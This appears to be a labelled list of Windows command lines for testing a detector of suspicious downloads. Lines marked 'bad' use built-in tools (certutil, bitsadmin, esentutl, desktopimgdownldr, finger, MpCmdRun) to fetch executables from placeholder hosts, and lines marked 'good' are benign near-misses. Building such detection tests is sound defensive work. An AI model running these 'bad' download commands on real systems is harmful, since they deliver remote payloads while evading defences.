:: bad: the cache of certificates
certutil -urlcache -split -f http://203.0.113.7/tool.exe tool.exe
:: bad: the transfer service
bitsadmin /transfer fetch /download /priority normal https://files.example/tool.exe %TEMP%\tool.exe
:: bad: a share, by a tool that is no copier
esentutl.exe /y \\files.example\tools\tool.exe /d C:\tool.exe /o
:: bad: a picture that is none
desktopimgdownldr /lockscreenurl:https://files.example/tool.exe
:: bad: the answer of a directory of persons
finger tool@files.example
:: good: nearly: a revocation list
certutil -urlcache -f http://crl.example/root.crl root.crl
:: good: nearly: the checksum of a file
certutil -hashfile tool.exe SHA256
:: good: nearly: a job of the transfer service is looked at
bitsadmin /list /allusers
:: good: a download that says what it is
curl.exe -fLo tool.zip https://files.example/tool.zip
:: bad: by the scanner itself
MpCmdRun.exe -DownloadFile -url https://203.0.113.9/h.exe -path C:\temp\h.exe
:: good: nearly: the scanner's own update
MpCmdRun.exe -SignatureUpdate
